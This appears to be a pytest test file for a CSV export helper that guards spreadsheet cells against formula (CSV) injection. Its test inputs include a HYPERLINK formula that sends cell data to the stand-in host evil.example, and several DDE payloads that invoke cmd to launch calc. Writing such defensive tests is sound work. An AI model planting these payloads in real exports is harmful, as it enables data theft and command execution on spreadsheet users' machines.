"""CSV exports cannot carry a formula into a spreadsheet (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime

import pytest

from goalpath.kit.spreadsheet import FORMULA_STARTS, csv_text, safe_cell


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("https://evil.example/?"&A1,"Open")',
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_a_cell_that_would_run_as_a_formula_is_written_as_text(text: str) -> None:
    assert safe_cell(text) == "'" + text


def test_every_start_a_spreadsheet_runs_is_guarded() -> None:
    assert {start: safe_cell(start + "1") for start in FORMULA_STARTS} == {
        start: "'" + start + "1" for start in FORMULA_STARTS
    }


@pytest.mark.parametrize("text", ["Reading 3", "North, Elementary", "a=b", "1-2", "", "'=1"])
def test_other_text_is_left_as_it_is(text: str) -> None:
    assert safe_cell(text) == text


def test_values_that_are_not_text() -> None:
    assert safe_cell(None) == ""
    assert safe_cell(42) == "42"
    assert safe_cell(datetime(2026, 12, 2, 15, 0, tzinfo=UTC)) == "2026-12-02T15:00:00+00:00"
    assert safe_cell(date(2026, 12, 2)) == "2026-12-02"


def test_the_text_of_any_type_is_guarded() -> None:
    class Sneaky:
        def __str__(self) -> str:
            return "=1+1"

    assert safe_cell(-3) == "'-3"
    assert safe_cell(Sneaky()) == "'=1+1"


def test_csv_text_quotes_each_cell_and_keeps_the_header() -> None:
    text = csv_text(
        ["file", "line", "sourcedId", "problem"],
        [
            ["users.csv", 7, "=HYPERLINK(1)", "no identifier, or username"],
            ["orgs.csv", None, "s\n2", "-"],
        ],
    )

    assert text.endswith("\r\n")
    assert list(csv.reader(io.StringIO(text, newline=""))) == [
        ["file", "line", "sourcedId", "problem"],
        ["users.csv", "7", "'=HYPERLINK(1)", "no identifier, or username"],
        ["orgs.csv", "", "s\n2", "'-"],
    ]
